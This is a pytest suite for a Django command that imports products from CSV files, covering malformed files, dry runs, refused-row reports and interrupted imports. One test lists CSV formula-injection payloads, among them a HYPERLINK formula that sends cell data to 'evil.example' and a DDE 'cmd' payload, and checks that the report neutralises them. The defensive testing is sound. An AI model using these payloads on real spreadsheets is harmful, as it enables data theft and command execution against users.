"""The command import_products: bad files, dry runs, the report of refused rows, interruptions."""

import csv
import io
import re
from pathlib import Path
from typing import NamedTuple

import pytest
from django.core.management import CommandError, call_command
from django.db import IntegrityError, OperationalError
from hypothesis import given
from hypothesis import strategies as st

from catalog.importing import run as import_run
from catalog.importing import save
from catalog.importing.formulas import guarded, unguarded
from catalog.models import Brand, Category, Product

pytestmark = pytest.mark.django_db


class Result(NamedTuple):
    """The output of the command. `summary` is created, updated, unchanged, refused."""

    summary: tuple[int, ...]
    stdout: str
    stderr: str


def write(folder: Path, *lines: str, file: str = "products.csv") -> Path:
    """A CSV file of these lines."""
    path = folder / file
    path.write_bytes("".join(f"{line}\n" for line in lines).encode())
    return path


def run(*files: Path, **options: object) -> Result:
    """Imports the files."""
    out, err = io.StringIO(), io.StringIO()
    call_command("import_products", *map(str, files), stdout=out, stderr=err, **options)
    counts = re.search(r"(\d+) created, (\d+) updated, (\d+) unchanged, (\d+) refused", out.getvalue())
    assert counts
    return Result(tuple(map(int, counts.groups())), out.getvalue(), err.getvalue())


def test_imports_a_file(tmp_path, capsys):
    call_command("import_products", str(write(tmp_path, "name,price", "Lamp,1")))
    out, err = capsys.readouterr()
    assert out.endswith("\n1 created, 0 updated, 0 unchanged, 0 refused\n")
    assert "plain columns, recognised by the columns name, price" in out
    assert "told apart by name" in out
    assert "no quantities: 1 new products have 0 units" in out
    assert err == ""


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "is empty"),
        (b"\xef\xbb\xbf\n \n", "is empty"),
        (b"\x89PNG\r\n\x1a\n\0\0\0", "picture"),
        (b"PK\x03\x04\0\0", "damaged"),
        (b'{"name": "Lamp"}', "JSON"),
        (b"Dear reader, this is a letter.\n", "has no header"),
        (b"name,description\nLamp,1\n", "has no header of a product file"),
        (b"sku,slug\n1,2\n", "has no header of a product file"),
        (b"name,price,Name\n", "has the column name more than once"),
    ],
)
def test_a_bad_file_stops_the_import_of_all_files_with_one_sentence(tmp_path, content, reason):
    good = write(tmp_path, "name,price", "Lamp,1", file="good.csv")
    bad = tmp_path / "bad.csv"
    bad.write_bytes(content)
    errors = tmp_path / "errors.csv"
    with pytest.raises(CommandError, match=r"bad\.csv") as caught:
        run(good, bad, errors=errors)
    message = str(caught.value)
    assert reason in message
    assert "\n" not in message
    assert message.endswith(".")
    assert caught.value.returncode == 1
    assert not errors.exists()
    assert not Product.objects.exists()
    assert not Category.objects.exists()


def test_a_missing_file_and_a_folder_are_refused(tmp_path):
    with pytest.raises(CommandError, match="there is no such file"):
        run(tmp_path / "none.csv")
    with pytest.raises(CommandError, match="is a folder"):
        run(tmp_path)


@pytest.mark.parametrize("content", [b"name,price", b"name,price\r\n\r\n"])
def test_a_file_with_a_header_only(tmp_path, content):
    path = tmp_path / "products.csv"
    path.write_bytes(content)
    assert run(path).summary == (0, 0, 0, 0)


def test_a_bom_windows_line_ends_quoted_line_breaks_and_blank_lines_are_accepted(tmp_path):
    path = tmp_path / "products.csv"
    rows = b'name,description,price\r\n\r\nLamp,"One\r\ntwo\n\nfour ""x""",1\r\n,,\r\nMat,\xe2\x80\xa8,oops\r\nRug,,3'
    path.write_bytes(b"\xef\xbb\xbf" + rows)
    result = run(path)
    assert result.summary == (2, 0, 0, 1)
    assert Product.objects.get(name="Lamp").description == 'One\ntwo\n\nfour "x"'
    assert "line 8: price 'oops'" in result.stderr  # the physical line, blank and quoted ones counted


@pytest.mark.parametrize(
    ("broken", "reason"),
    [
        ('"Lamp,1,', "a quote is opened and never closed"),
        ('"Lamp" x,1,', "text follows a closing quote"),
        (f"Lamp,1,{'x' * 1_000_001}", "the line has 1,000,00"),
        ("Lamp", "price is empty"),
        ("Lamp,1,,x", "4 cells"),
    ],
)
def test_a_broken_row_is_refused_alone(tmp_path, broken, reason):
    result = run(write(tmp_path, "name,price,description", "Mat,1,", broken, "Rug,2,soft", "Bed,3,", "Cup,4,,,"))
    assert result.summary == (4, 0, 0, 1)
    assert "line 3: " in result.stderr
    assert reason in result.stderr
    assert "line 4" not in result.stderr


def test_an_unclosed_quote_before_quoted_fields_refuses_its_row_alone(tmp_path):
    rows = ['Mat,1,"a, b"', 'Lamp,1,"soft', 'Rug,2,"c, d"', 'Bed,3,"two', 'lines"']
    result = run(write(tmp_path, "name,price,description", *rows))
    assert result.summary == (3, 0, 0, 1)
    assert set(Product.objects.values_list("description", flat=True)) == {"a, b", "c, d", "two\nlines"}
    assert "line 3: " in result.stderr


def test_an_endless_record_is_refused_in_bounded_memory(tmp_path, monkeypatch):
    monkeypatch.setattr("catalog.importing.reading.records.MAX_RECORD_CHARACTERS", 1_000)
    result = run(write(tmp_path, "name,price", *['"x', '",'] * 300, "Rug,1"))
    assert Product.objects.get().name == "Rug"
    assert result.summary[0] == 1


def test_a_dry_run_reports_and_writes_nothing(tmp_path):
    run(write(tmp_path, "name,price", "Lamp,1"))
    before = list(Product.objects.values())
    path = write(tmp_path, "name,price,brand,category", "Lamp,2,New,A > B", "Mat,1,New,", "Rug,x,,", "mat,1,,")
    result = run(path, dry_run=True)
    assert result.summary == (1, 1, 0, 2)
    assert result.stdout.endswith("Dry run: nothing was written.\n")
    assert list(Product.objects.values()) == before
    assert not Brand.objects.filter(name="New").exists()
    assert run(path).summary == result.summary


def test_refused_rows_are_reported_unchanged_and_can_be_corrected_and_imported(tmp_path):
    path = write(tmp_path, "Name,price,Colour", "Lamp,1,red", ' Mat ,"1,5x",blue', 'Rug,"2', "Lamp,3,green")
    errors = tmp_path / "errors.csv"
    result = run(path, errors=errors)
    assert result.summary == (1, 0, 0, 3)
    assert f"The refused rows are in {errors}" in result.stderr
    assert "line 3" not in result.stderr
    header, *rows = csv.reader(errors.read_text(encoding="utf-8-sig").splitlines(keepends=True))
    assert header == ["file", "line", "reason", "Name", "price", "Colour"]
    assert rows[0] == [str(path), "3", "price '1,5x' is not a number such as 1234.50", " Mat ", "1,5x", "blue"]
    assert rows[1][1:] == ["4", "a quote is opened and never closed", 'Rug,"2']
    assert rows[2][1:] == ["5", "the name 'Lamp' is used already in line 2", "Lamp", "3", "green"]
    errors.write_text(errors.read_text(encoding="utf-8-sig").replace('"1,5x"', "1.50"), encoding="utf-8")
    assert run(errors).summary[0] == 1


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    *("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "  =1+1", "＝1+1", "'=1+1", "''-x", "\r=1"),
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_report_has_no_formulas_and_imports_the_original_cells(tmp_path, formula):
    cell = formula.replace('"', '""')
    path = write(tmp_path, f'name,price,description,"{cell}"', f'"{cell}","{cell}","{cell}","{cell}"')
    errors = tmp_path / "errors.csv"
    assert run(path, errors=errors).summary == (0, 0, 0, 1)
    with errors.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    for shown in rows[1][3:]:
        assert shown == f"'{formula}"
    rows[1][4] = "1.50"
    with errors.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    assert run(errors).summary == (1, 0, 0, 0)
    product = Product.objects.get()
    assert (product.name, product.description) == (formula.strip(), formula.replace("\r", "\n").strip())


def test_numbers_and_apostrophes_in_other_files_are_kept(tmp_path):
    path = write(tmp_path, "name,price,quantity,sku", "'-x,1,2,'=5", "Lamp,-1,-5,+7")
    errors = tmp_path / "errors.csv"
    assert run(path, errors=errors).summary == (1, 0, 0, 1)
    assert Product.objects.get().name == "'-x"
    assert errors.read_text(encoding="utf-8-sig").splitlines()[1].endswith("Lamp,-1,-5,+7")


@given(st.text())
def test_unguarded_undoes_guarded(cell):
    assert unguarded(guarded(cell)) == cell
    assert guarded(cell) == cell or guarded(cell).startswith("'")


def test_the_report_has_the_columns_of_all_files(tmp_path):
    one = write(tmp_path, "name,price", "Lamp,x", file="one.csv")
    two = write(tmp_path, "sku,price,name", "A,y,Mat", file="two.csv")
    errors = tmp_path / "errors.csv"
    run(one, two, errors=errors)
    rows = list(csv.DictReader(errors.read_text(encoding="utf-8-sig").splitlines()))
    assert [(row["name"], row["price"], row["sku"]) for row in rows] == [("Lamp", "x", ""), ("Mat", "y", "A")]


def test_a_report_that_cannot_be_written_stops_the_import(tmp_path):
    path = write(tmp_path, "name,price", "Lamp,1")
    for errors in (tmp_path / "none" / "errors.csv", path):
        with pytest.raises(CommandError):
            run(path, errors=errors)
    assert not Product.objects.exists()
    assert path.read_text().startswith("name")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="Linux only")
def test_a_full_disk_under_the_report_is_an_error(tmp_path):
    path = write(tmp_path, "name,price", "Lamp,1", "Mat,x")
    with pytest.raises(CommandError, match=r"/dev/full cannot be written .* So far 1 created"):
        run(path, errors=Path("/dev/full"))


def test_without_a_report_the_first_twenty_refusals_are_printed(tmp_path):
    result = run(write(tmp_path, "name,price", *(f"Lamp {i},x" for i in range(25))))
    lines = result.stderr.splitlines()
    assert len(lines) == 21
    assert lines[-1] == "… and 5 more"


def test_refused_rows_are_printed_in_the_order_of_lines(tmp_path):
    result = run(write(tmp_path, "name,price,sku", "a,1,A", "a,1,", "b,x,", "c,1,A", "d,x,"))
    assert re.findall(r"line (\d+): ", result.stderr) == ["3", "4", "5", "6"]


@pytest.mark.parametrize("stop", [KeyboardInterrupt(), OperationalError(1205, "Lock wait timeout exceeded")])
def test_an_interrupted_import_keeps_whole_batches_and_the_next_run_finishes(tmp_path, monkeypatch, stop):
    monkeypatch.setattr(import_run, "MAX_BATCH_ROWS", 2)
    path = write(tmp_path, "name,price", *(f"Lamp {i},1" for i in range(5)))
    real, calls = save.Saver.save, []

    def second_stops(saver, rows):
        calls.append(rows)
        if len(calls) == 2:
            raise stop
        return real(saver, rows)

    monkeypatch.setattr(save.Saver, "save", second_stops)
    with pytest.raises(CommandError, match="So far 2 created, 0 updated, 0 unchanged, 0 refused; run it again"):
        run(path)
    assert Product.objects.count() == 2
    assert run(path).summary == (3, 0, 2, 0)


def test_a_product_created_by_another_process_meanwhile_is_updated(tmp_path, monkeypatch):
    real = save._write
    brand, category = Brand.objects.create(name="B", slug="b"), Category.objects.create(name="C", slug="c")
    calls = []

    def loses_once(*args):
        calls.append(args)
        if len(calls) == 1:
            raise IntegrityError("UNIQUE constraint failed: catalog_product.slug")
        return real(*args)

    monkeypatch.setattr(save, "_write", loses_once)
    Product.objects.create(name="Lamp", slug="lamp", price=1, brand=brand, category=category)
    assert run(write(tmp_path, "name,price", "Lamp,2", "Mat,1")).summary == (1, 1, 0, 0)
    assert len(calls) == 2


def test_a_row_that_the_database_refuses_is_refused_alone(tmp_path, monkeypatch):
    real = save._write

    def dislikes_mats(created, updated, touched):
        if any(product.name == "Mat" for product in created):
            raise IntegrityError("no mats")
        return real(created, updated, touched)

    monkeypatch.setattr(save, "_write", dislikes_mats)
    result = run(write(tmp_path, "name,price,brand", "Lamp,2,", "Mat,1,Matty", "Rug,1,"))
    assert result.summary == (2, 0, 0, 1)
    assert "line 3: the database refused it: no mats" in result.stderr
    assert not Brand.objects.filter(name="Matty").exists()


def test_a_report_has_one_system_only(tmp_path):
    one = write(tmp_path, "name,price", "Lamp,x", file="one.csv")
    two = write(tmp_path, "Handle,Title,Variant Price", "mat,Mat,y", file="two.csv")
    with pytest.raises(CommandError, match="several systems"):
        run(one, two, errors=tmp_path / "errors.csv")


def test_a_refused_variant_is_reported_with_what_it_inherits(tmp_path):
    header = "Handle,Title,Vendor,Type,Status,Option1 Value,Variant Price"
    path = write(tmp_path, header, "tee,Tee,Acme,Tops,draft,S,5", "tee,,,,,M,x")
    errors = tmp_path / "errors.csv"
    assert run(path, errors=errors).summary == (1, 0, 0, 1)
    errors.write_text(errors.read_text(encoding="utf-8-sig").replace(",x", ",6"), encoding="utf-8")
    result = run(errors)
    assert result.summary == (1, 0, 0, 0)
    assert "not understood" not in result.stdout
    tee = Product.objects.get(slug="tee-m")
    assert (tee.name, tee.brand.name, tee.category.name, tee.is_active) == ("Tee – M", "Acme", "Tops", False)
